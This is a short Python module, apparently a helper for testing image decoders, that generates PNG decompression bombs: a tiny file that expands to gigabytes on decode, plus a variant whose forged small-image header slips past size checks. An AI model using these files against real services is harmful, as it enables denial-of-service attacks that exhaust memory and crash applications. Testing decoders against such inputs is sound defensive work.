"""Pictures that are small to send and large to decode."""

import struct
import zlib
from functools import cache


def chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack("!I", len(content)) + kind + content + struct.pack("!I", zlib.crc32(kind + content))


@cache
def bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """One-bit PNG of nothing: 52 KB for 20,000 x 20,000, which decode to 1.6 GB."""
    packer = zlib.compressobj(9)
    row = bytes(1 + (width + 7) // 8)
    packed = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    size = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", size) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def lying(width: int = 100, height: int = 100) -> bytes:
    """A header of a small picture before the data of the bomb."""
    whole = bomb()
    size = struct.pack("!IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return whole[:8] + chunk(b"IHDR", size) + whole[33:]
